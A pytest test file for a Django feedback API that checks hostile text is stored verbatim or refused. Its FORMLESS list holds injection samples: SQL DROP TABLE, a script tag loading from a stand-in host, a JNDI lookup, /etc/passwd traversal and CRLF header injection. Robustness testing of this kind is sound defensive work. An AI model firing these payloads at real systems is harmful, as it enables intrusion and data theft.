"""Hostile texts in every field: answered, never a failure; what is stored is what was sent."""

from urllib.parse import quote

import pytest

from tests.product import Product

pytestmark = pytest.mark.django_db

BIDI = "\u202eright to left\u202c"
STACKED = "z" + "\u0335\u0321\u0317\u0353" * 40
FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f"
FORMLESS = [
    "'; DROP TABLE feedback; --",
    '"><script src=//x.example></script>',
    "{{ 7 * 7 }} {% load x %} ${jndi:ldap://x} %s %(id)s {0.__class__}",
    "../../../../etc/passwd%00.png",
    '\\" \\\\ \\x00 \\u0000 {"a": [1,]}',
    'a,b{c}"d"\\e',  # what an array literal of PostgreSQL gives a meaning
    "line\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "\t\v\f\u0085\u2028\u2029\ufeff end",
    "e\u0301 is not \u00e9, \ufb01 is not fi",
    "\uffff\ufffe\U0010ffff",
    BIDI,
    STACKED,
    FAMILY,
    "\u0660\u0661\u0662 \uff11\uff12",
]
NAMES = ["NaN", "-1e999", "__proto__", "constructor"]  # which an id may be
TEXTS = [*FORMLESS, *NAMES]
IN_ADDRESSES = [
    *TEXTS,
    "..",
    "%2e%2e%2f",
    "%00",
    "%ff",
    "0",
    f"{'0' * 8}-0000-0000-0000-{'0' * 11}g",
]


@pytest.fixture
def shop():
    shop = Product("shop")
    shop.task(slug="story", modality="text", labels=[])
    shop.task(slug="page", modality="layout", labels=["a", "b"])
    return shop


def send_act(shop, **more):
    """Send an act on a text; return the stored row."""
    body = {"task": "story", "input": "a question", "output": "an answer", "signal": "up"} | more
    return shop.get(f"feedback/{shop.post('feedback/', body, 201)['id']}/")


def apply_spans(original, diff):
    for span in reversed(diff):
        end = span["start"] + len(span["removed"])
        assert original[span["start"] : end] == span["removed"]
        original = original[: span["start"]] + span["inserted"] + original[end:]
    return original


@pytest.mark.parametrize("text", TEXTS)
def test_it_works(shop, text):
    metadata = {text: text, "more": [{text: [text]}]}
    row = send_act(shop, input=text, output=text, comment=text, metadata=metadata)
    assert [row[name] for name in ("input", "original", "comment")] == [text] * 3
    assert row["metadata"] == metadata
    assert row["redactions"] == {}


@pytest.mark.parametrize("text", TEXTS)
def test_a_conversation_is_stored_as_it_was(shop, text):
    talk = {"messages": [{"role": "user", "content": text}, {"role": text[:50], "content": ""}]}
    assert send_act(shop, input=talk)["input"] == talk


@pytest.mark.parametrize("text", TEXTS)
def test_a_difference_gives_the_correction_from_the_original(shop, text):
    original, corrected = f"One {text} two\r\n{text}!", f"one {text} two\n{text}\u0301 three"
    row = send_act(shop, output=original, signal="correction", corrected=corrected)
    assert row["corrected"] == corrected
    assert apply_spans(row["original"], row["diff"]) == corrected


def test_a_box_may_be_called_anything(shop):
    names = [text[:128] for text in TEXTS]
    boxes = [{"id": name, "label": "a", "bbox": [n, n, 5, 5]} for n, name in enumerate(names)]
    corrected = {"boxes": [box | {"label": "b"} for box in reversed(boxes[1:])]}
    body = {"task": "page", "input": {"page": {"width": 50, "height": 50}, "words": names}}
    row = send_act(shop, **body, output={"boxes": boxes}, signal="correction", corrected=corrected)
    assert row["corrected"] == corrected
    removed, reordered, *relabelled = row["diff"]
    assert removed == {"change": "removed", "box": boxes[0]}
    assert reordered["ids"] == names[:0:-1]
    assert [(change["id"], change["to"]) for change in relabelled] == [
        (name, "b") for name in names[:0:-1]
    ]


@pytest.mark.parametrize("field", ["id", "inference_id", "task", "signal", "user_id", "session_id"])
def test_a_field_with_a_form_takes_no_other(shop, field):
    inference = {"task": "story", "input": "a question", "output": "an answer"}
    for text in FORMLESS:
        if field not in {"inference_id", "signal"}:
            answer = shop.post("inferences/", inference | {field: text}, 400)
            assert answer["code"] == "api.malformed"
        answer = shop.post("feedback/", inference | {"signal": "up"} | {field: text}, 400)
        assert answer["code"] == "api.malformed"


@pytest.mark.parametrize(
    "address",
    [
        *("feedback/{}/", "feedback/{}/lineage/", "images/{}/", "images/{}/file/", "tasks/{}/"),
        *("models/{}/", "runs/{}/", "rollouts/{}/", "privacy/subjects/{}/"),
    ],
)
def test_nothing_is_found_under_a_hostile_address(shop, address):
    for text in IN_ADDRESSES:
        answer = shop.send("GET", address.format(quote(text, safe="")))
        assert answer.status_code in {400, 404}, text


@pytest.mark.parametrize("name", ["task", "status", "signal", "user_id", "target", "since"])
def test_a_filter_finds_nothing_or_is_refused(shop, name):
    send_act(shop)
    for text in IN_ADDRESSES:
        answer = shop.send("GET", f"feedback/?{name}={quote(text, safe='')}")
        assert answer.status_code == 400 or answer.json()["results"] == [], text


@pytest.mark.parametrize("text", TEXTS)
def test_own_terms_and_patterns_are_refused_or_work(shop, text):
    for settings in ({"redact_terms": [text]}, {"redact_patterns": {"OWN": text}}):
        answer = shop.send("PATCH", "tasks/story/", {"settings": settings})
        if answer.status_code == 200:
            assert answer.json()["settings"] | settings == answer.json()["settings"]
            send_act(shop, comment=f"before {text} after")
        else:
            assert answer.json()["code"] == "api.malformed"


def test_new_settings_hold_for_the_next_act(shop):
    for term in ("bluebird", "redwing", "goldfinch"):
        shop.patch("tasks/story/", {"settings": {"redact_terms": [term]}})
        row = send_act(shop, comment=f"about {term} here")
        assert (row["comment"], row["redactions"]) == ("about [TERM] here", {"TERM": 1})


def test_what_one_person_in_a_batch_refuses_stops_nobody_else(shop):
    shop.put("privacy/subjects/ann/consents/collection/", {"granted": False})
    act = {"task": "story", "input": "a question", "output": "an answer", "signal": "up"}
    items = [act | {"user_id": user} for user in ("ann", "bob", "ann", "new", "new")]
    results = shop.post("feedback/batch/", {"items": items}, 200)["results"]
    assert [result["status"] for result in results] == [403, 201, 403, 201, 201]
    assert results[0]["code"] == "privacy.opted_out"


def test_an_act_said_twice_in_a_batch_counts_once(shop):
    made = {"task": "story", "input": "a question", "output": "an answer"}
    inference = shop.post("inferences/", made, 201)["id"]
    act = {"inference_id": inference, "signal": "correction", "corrected": "a better one"}
    items = [act | {"user_id": user} for user in ("ann", "ann", "bob")]
    results = shop.post("feedback/batch/", {"items": items}, 200)["results"]
    assert [result["status"] for result in results] == [201, 422, 201]
    assert [problem["code"] for problem in results[1]["errors"]] == ["feedback.duplicate"]


def test_those_who_disagree_in_a_batch_contradict_each_other(shop):
    act = {"task": "story", "input": "a question", "output": "an answer", "signal": "correction"}
    said = [("ann", "one"), ("bob", "two"), ("bob", "three"), ("cid", "one")]
    items = [act | {"user_id": user, "corrected": text} for user, text in said]
    results = shop.post("feedback/batch/", {"items": items}, 200)["results"]
    flags = [result["flags"] for result in results]
    assert flags == [[], *[["feedback.contradiction"]] * 3]
